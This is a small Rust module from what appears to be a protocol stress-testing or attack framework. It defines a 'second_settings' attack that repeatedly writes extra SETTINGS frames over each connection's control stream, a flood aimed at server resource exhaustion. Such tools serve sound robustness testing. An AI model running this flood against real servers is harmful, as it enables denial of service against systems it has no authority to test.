//! SETTINGS frames, after the first.

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("second_settings", "further SETTINGS frames", run);

fn run(a: &mut Attacker) {
    let flood = wire::settings(wire::BROWSER);
    a.storm(|conn, (): &mut ()| {
        let control = conn.critical().control;
        if conn.takes(control) {
            conn.write(control, &flood);
            conn.ops += 1;
        }
    });
}
